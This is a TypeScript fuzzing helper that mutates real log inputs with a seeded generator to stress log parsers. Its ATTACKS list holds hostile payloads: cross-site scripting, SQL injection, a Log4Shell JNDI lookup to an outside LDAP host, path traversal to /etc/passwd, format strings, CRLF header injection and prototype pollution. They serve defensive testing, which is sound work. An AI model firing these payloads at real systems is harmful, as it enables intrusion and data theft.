// Hostile inputs for fuzzing, made from real ones by a seeded generator: the same seed gives the same inputs.
import { Buffer } from 'node:buffer';

/** A number from 0 up to, and not with, `below`. */
export type Draw = (below: number) => number;

/** Pieces that have broken parsers of logs: markup, TLS on a plain port, quotes, escapes, separators, numbers, NULs. */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><svg/onload=alert(1)>',
  '\\x16\\x03\\x01\\x02\\x00\\x01',
  '\u0016\u0003\u0001\u0002',
  "' OR '1'='1' -- ",
  '$\x7bjndi:ldap://198.51.100.7/a}',
  '../../../../etc/passwd%00',
  '%c0%ae%c0%ae/%ff%fe',
  '\\"\\"\\\\"',
  '"\'`\\',
  '\0\0\0',
  '\\u0000\\ud800',
  '\ud800',
  '\u202e\ufeff\u0085\u2028',
  'Nguyễn Thị Ví Dụ',
  '\x1b[31mred\x1b[0m',
  '[[[[{{{{((((',
  ']]]]}}}}))))',
  '=,;|&:= , ; | ',
  '99999999999999999999999',
  '-1e309 NaN Infinity',
  '0x7fffffff',
  '2026-13-45T99:99:99Z',
  '<999>1 ',
  '<13>Nov 22 03:00:00 host app[1]: ',
  'CEF:0|a|b|c|d|e|f|',
  '{"a":{"a":{"a":[[[{"__proto__":{"x":1}}]]]}}}',
  '__proto__=1 constructor=2 toString=3 ',
  'constructor',
  'HTTP/1.1" 200 0 "-" "',
  '%n%s%d%x',
  '\r\nSet-Cookie: x=1\r\n\r\n',
  '\t\t\t\t',
];
/** Longest input, unless a target wants longer ones. */
const BYTES_MAX = 16_384;
const REPEATED_MAX = 8_192;
const CHUNKS_MAX = 8;

/** Draws by xorshift. */
export function drawFrom(seed: number): Draw {
  let state = seed >>> 0 || 1;
  return (below) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    state >>>= 0;
    return below < 1 ? 0 : state % below;
  };
}

/** One of a list that is not empty. */
export function pick<T>(list: readonly T[], draw: Draw): T {
  return list[draw(list.length)] as T;
}

/** A mutation of one of some real inputs. */
export function hostileBytes(
  real: readonly Buffer[],
  draw: Draw,
  bytesMax: number = BYTES_MAX,
): Buffer {
  let bytes: Buffer = Buffer.from(pick(real, draw));
  for (let times = 1 + draw(3); times > 0; times -= 1) {
    bytes = mutated(bytes, real, draw);
  }
  return bytes.subarray(0, bytesMax);
}

/** The same bytes cut at random places, as a network delivers them. */
export function chunksOf(bytes: Buffer, draw: Draw): Buffer[] {
  const cuts = Array.from({ length: draw(CHUNKS_MAX) }, () => draw(bytes.length + 1));
  const places = [0, ...cuts.sort((left, right) => left - right), bytes.length];
  return places.slice(1).map((end, index) => bytes.subarray(places[index], end));
}

function mutated(bytes: Buffer, real: readonly Buffer[], draw: Draw): Buffer {
  const at = draw(bytes.length + 1);
  const to = Math.min(bytes.length, at + draw(40));
  const [head, cut, tail] = [bytes.subarray(0, at), bytes.subarray(at, to), bytes.subarray(to)];
  switch (draw(10)) {
    case 0:
    case 1:
    case 2:
      return Buffer.concat([head, Buffer.from(pick(ATTACKS, draw)), cut, tail]);
    case 3:
      return Buffer.concat([head, tail]);
    case 4:
      return Buffer.concat([
        head,
        Buffer.from(Array.from({ length: draw(16) }, () => draw(256))),
        tail,
      ]);
    case 5:
      return Buffer.concat([head, repeated(cut, draw), tail]);
    case 6:
      return Buffer.concat([head, repeated(Buffer.from(pick(ATTACKS, draw)), draw), tail]);
    case 7:
      return Buffer.concat([head, pick(real, draw).subarray(draw(200))]);
    case 8:
      return flipped(bytes, draw);
    default:
      return Buffer.from(head);
  }
}

function repeated(piece: Buffer, draw: Draw): Buffer {
  const times = draw(4) === 0 ? Math.ceil(REPEATED_MAX / (piece.length + 1)) : draw(20);
  return Buffer.concat(Array.from({ length: times }, () => piece));
}

function flipped(bytes: Buffer, draw: Draw): Buffer {
  const copy = Buffer.from(bytes);
  for (let times = draw(8); times > 0 && copy.length > 0; times -= 1) {
    copy[draw(copy.length)] = draw(256);
  }
  return copy;
}
